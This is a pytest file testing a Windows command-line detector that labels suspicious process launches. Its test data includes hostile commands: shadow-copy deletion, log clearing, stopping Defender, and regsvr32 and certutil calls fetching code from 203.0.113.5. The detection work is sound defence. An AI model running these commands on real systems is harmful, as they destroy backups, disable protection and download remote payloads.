"""Command lines that tell what a program was started for."""

from __future__ import annotations

import pytest

from scripts.procmon.findings.command_lines import telling

ORDINARY = [
    r'"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe" -NoProfile -ExecutionPolicy Bypass -File C:\x.ps1',
    r"powershell.exe -WindowStyle Hidden -File C:\Program Files\Vendor\check.ps1",
    r"C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule",
    r'"C:\Windows\system32\rundll32.exe" C:\Windows\system32\shell32.dll,Control_RunDLL',
    r"C:\Windows\System32\rundll32.exe C:\Program Files\Vendor\x.dll,Main",
    r"vssadmin list shadows",
    r"wevtutil gl Security",
    r"certutil -hashfile x.bin SHA256",
    r"netsh interface show interface",
    "chrome.exe --type=renderer --enc --windowed=1",
    "",
]
TELLING = {
    "cmd.exe /c vssadmin.exe Delete Shadows /all /quiet": "shadow-copies",
    "wmic shadowcopy delete": "shadow-copies",
    "bcdedit /set {default} recoveryenabled No": "shadow-copies",
    "wevtutil cl Security": "log-clearing",
    "sc stop WinDefend": "protection-off",
    "regsvr32 /s /n /u /i:http://203.0.113.5/x.sct scrobj.dll": "remote-script",
    "powershell -nop -w hidden -enc SQBFAFgAKABOAGUAdwAtAE8AYgBqAGUAYwB0ACkA": "hidden-script",
    "x.exe -noprofile -windowstyle hidden -ep bypass -command [Convert]::('gnirtS46esabmorF')": "hidden-script",
    "certutil.exe -urlcache -split -f http://203.0.113.5/a.exe": "download-tool",
    r'rundll32.exe "C:\Documents and Settings\a\Local Settings\Application Data\v\x.dll",Run': "library-from-user-folder",
}


@pytest.mark.parametrize("line", ORDINARY)
def test_everyday_command_lines_tell_nothing(line: str) -> None:
    assert telling(line) is None


@pytest.mark.parametrize(("line", "known"), TELLING.items())
def test_telling_ones_are_known_by_what_they_do(line: str, known: str) -> None:
    found = telling(line)
    assert found is not None
    assert found["id"] == known


def test_a_hostile_command_line_is_read_in_time() -> None:
    assert telling("wmic " * 200_000) is None
